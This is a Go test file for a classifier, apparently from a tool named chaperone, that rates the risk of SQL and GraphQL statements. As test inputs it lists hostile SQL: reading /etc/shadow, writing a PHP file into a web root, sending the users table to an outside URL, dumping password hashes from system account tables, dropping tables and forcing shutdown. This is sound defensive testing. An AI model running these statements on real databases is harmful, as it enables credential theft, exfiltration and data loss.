package keyword

import (
	"testing"

	"github.com/chaperone/chaperone/internal/action"
)

func class(kind action.Kind, text string) action.Class {
	c := action.ClassRead
	for _, r := range Classify(kind, text) {
		c = action.Max(c, r.Class)
	}
	return c
}

func TestKeywordClassifierIsConservative(t *testing.T) {
	cases := []struct {
		kind action.Kind
		text string
		want action.Class
	}{
		{action.KindSQL, "SELECT * FROM t", action.ClassRead},
		{action.KindSQL, "select 1; drop table users", action.ClassDestructive},
		{action.KindSQL, "DELETE FROM bookings", action.ClassDestructive},
		{action.KindSQL, "INSERT INTO t VALUES (1)", action.ClassWrite},
		{action.KindSQL, "UPDATE users SET email = NULL", action.ClassDestructive},
		{action.KindSQL, "select 1; update users set pw = null", action.ClassDestructive},
		{action.KindSQL, "UPDATE users SET email = NULL WHERE id = 4", action.ClassWrite},
		{action.KindSQL, "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", action.ClassDestructive},
		{action.KindSQL, "frobnicate", action.ClassUnknown},
		// Files on the server's machine, other hosts reached from it, and
		// a shutdown after anything.
		{action.KindSQL, "SELECT LOAD_FILE('/etc/shadow')", action.ClassUnknown},
		{action.KindSQL, "SELECT 'x' INTO OUTFILE '/var/www/html/x.php'", action.ClassUnknown},
		{action.KindSQL, "SELECT * FROM file('/etc/shadow', 'LineAsString')", action.ClassUnknown},
		{action.KindSQL, "INSERT INTO FUNCTION url('https://e/x', CSV) SELECT * FROM users", action.ClassUnknown},
		{action.KindSQL, "SET GLOBAL general_log_file='/var/lib/mysql/ibdata1'", action.ClassUnknown},
		{action.KindSQL, "SET GLOBAL innodb_fast_shutdown=2; SHUTDOWN", action.ClassDestructive},
		{action.KindSQL, "SELECT url FROM links", action.ClassRead},
		{action.KindSQL, "", action.ClassUnknown},
		{action.KindGraphQL, "query { me { id } }", action.ClassRead},
		{action.KindGraphQL, `mutation { volumeDelete(volumeId: "v") }`, action.ClassDestructive},
		{action.KindGraphQL, `mutation { serviceCreate(input: {}) { id } }`, action.ClassWrite},
		{action.KindGraphQL, "garbage", action.ClassUnknown},
		{action.KindHTTP, "GET /", action.ClassUnknown},
		{action.KindShell, "ls", action.ClassUnknown}, // shell is the shell package's job
	}
	for _, c := range cases {
		if got := class(c.kind, c.text); got != c.want {
			t.Errorf("%s %q: got %s, want %s", c.kind, c.text, got, c.want)
		}
	}
}

func TestReplaceFromItself(t *testing.T) {
	for text, want := range map[string]action.Class{
		"insert or replace into users select id, null from users": action.ClassDestructive,
		"REPLACE INTO t(id) SELECT id FROM t":                     action.ClassDestructive,
		"INSERT OR REPLACE INTO t VALUES (1, 'a')":                action.ClassWrite,
		"INSERT OR REPLACE INTO t SELECT * FROM staging":          action.ClassWrite,
		// Statements that replace a table whole.
		"CREATE OR REPLACE TABLE ds.t AS SELECT 1":     action.ClassDestructive,
		"create or replace transient table t (id int)": action.ClassDestructive,
		"CREATE OR REPLACE SCHEMA s":                   action.ClassDestructive,
		"INSERT OVERWRITE TABLE t SELECT * FROM s":     action.ClassDestructive,
		"CREATE OR REPLACE VIEW v AS SELECT 1":         action.ClassWrite,
		"MATCH (n) DETACH DELETE n":                    action.ClassDestructive,
		"MATCH (n:User) REMOVE n.email":                action.ClassDestructive,
		"MATCH (n) RETURN count(n)":                    action.ClassRead,
	} {
		got := action.ClassRead
		for _, r := range Classify(action.KindSQL, text) {
			got = r.Class
		}
		if got != want {
			t.Errorf("%q: %s, want %s", text, got, want)
		}
	}
}

func TestAccountsInOtherEngines(t *testing.T) {
	for text, want := range map[string]action.Class{
		"SELECT user, authentication_string FROM mysql.user":    action.ClassCredentialAccess,
		"select * from mysql . user":                            action.ClassCredentialAccess,
		"SELECT priv FROM mysql.global_priv":                    action.ClassCredentialAccess,
		"SELECT name, password_hash FROM sys.sql_logins":        action.ClassCredentialAccess,
		"SELECT username, password FROM dba_users":              action.ClassCredentialAccess,
		"SELECT name, spare4 FROM sys.user$":                    action.ClassCredentialAccess,
		"SELECT username, \"hashedPassword\" FROM system.users": action.ClassCredentialAccess,
		"SHOW CREATE USER app":                                  action.ClassCredentialAccess,
		"SET PASSWORD FOR 'app'@'%' = 'x'":                      action.ClassDestructive,
		"set password = 'x'":                                    action.ClassDestructive,
		"RENAME USER app TO app_old":                            action.ClassDestructive,
		"SELECT user FROM app.users":                            action.ClassRead,
		"SET NAMES utf8mb4":                                     action.ClassWrite,
		"SELECT password_reset_at FROM accounts WHERE id = 1":   action.ClassRead,
	} {
		if got := class(action.KindSQL, text); got != want {
			t.Errorf("%q: got %s, want %s", text, got, want)
		}
	}
}
